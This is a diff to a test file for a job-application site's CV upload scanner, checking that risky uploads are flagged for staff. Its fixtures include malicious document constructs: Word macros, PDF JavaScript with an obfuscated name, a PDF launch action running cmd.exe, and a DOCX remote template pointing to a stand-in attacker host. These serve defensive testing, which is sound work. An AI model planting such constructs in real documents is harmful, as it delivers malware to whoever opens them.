@@ -3,7 +3,7 @@ import { cvMessages } from "../../server/forms/rules.ts";
 import { createScan } from "../../server/forms/scan-cv.ts";
 import { describeSubmission } from "../../server/inbox/describe-submission.ts";
 import { composeMail } from "../../server/mail/compose-mail.ts";
-import { docOf, docxOf } from "./fixtures/documents.ts";
+import { docOf, docxOf, relationsOf } from "./fixtures/documents.ts";
 import { postApplication } from "./fixtures/forms.ts";
 import { pdfOf, samples } from "./fixtures/sample-files.ts";
 import { type RunningApp, startApp } from "./fixtures/start-app.ts";
@@ -24,7 +24,7 @@ describe("a CV", () => {
   test.each<[string, Buffer, string]>([
     ["a DOCX with macros", docxOf({ name: "word/vbaProject.bin" }), cvMessages.macros],
     ["a DOCX with macros in another folder", docxOf({ name: "x/VBAPROJECT.BIN" }), cvMessages.macros],
-    ["a DOC with macros", docOf(["Macros", 1], ["VBA", 1], ["_VBA_PROJECT", 2]), cvMessages.macros],
+    ["a DOC with macros", docOf(["Macros/VBA/_VBA_PROJECT", 2]), cvMessages.macros],
     ["a DOC with an empty storage for macros", docOf(["Macros", 1]), cvMessages.macros],
     ["a DOCX of 1,001 entries", docxOf(...many), cvMessages.packed],
     [
@@ -60,7 +60,13 @@ describe("a CV", () => {
     ["a PDF with JavaScript", pdf("/S /JavaScript /JS (app.alert(1))"), /JavaScript/],
     ["a PDF that hides JavaScript", pdf("/S /Java#53cript /JS (app.alert(1))"), /JavaScript/],
     ["a PDF that starts a program", pdf("/S /Launch /F (cmd.exe)"), /start a program/],
-    ["a DOCX with a template from elsewhere", docxOf({ name: "word/_rels/settings.xml.rels" }), /template/],
+    [
+      "a DOCX with a template from elsewhere",
+      docxOf(
+        relationsOf("word/_rels/settings.xml.rels", ["attachedTemplate", "!https://evil.example/a.dotm"]),
+      ),
+      /from elsewhere/,
+    ],
   ])("that is %s is taken, and the staff are told", async (_name, bytes, mark) => {
     const { body } = await postApplication(app.origin, {}, bytes);
     const [submission] = await app.store.find(String(body.id));
@@ -96,7 +102,7 @@ describe("where a virus scanner runs", () => {
     clamd.close();
     expect((await postApplication(app.origin)).status).toBe(200);
     expect(await app.store.list(["new"])).toMatchObject([
-      { cv: { mark: "the virus scanner gave no answer" } },
+      { cv: { mark: "was not checked, since the virus scanner gave no answer" } },
     ]);
   });
 
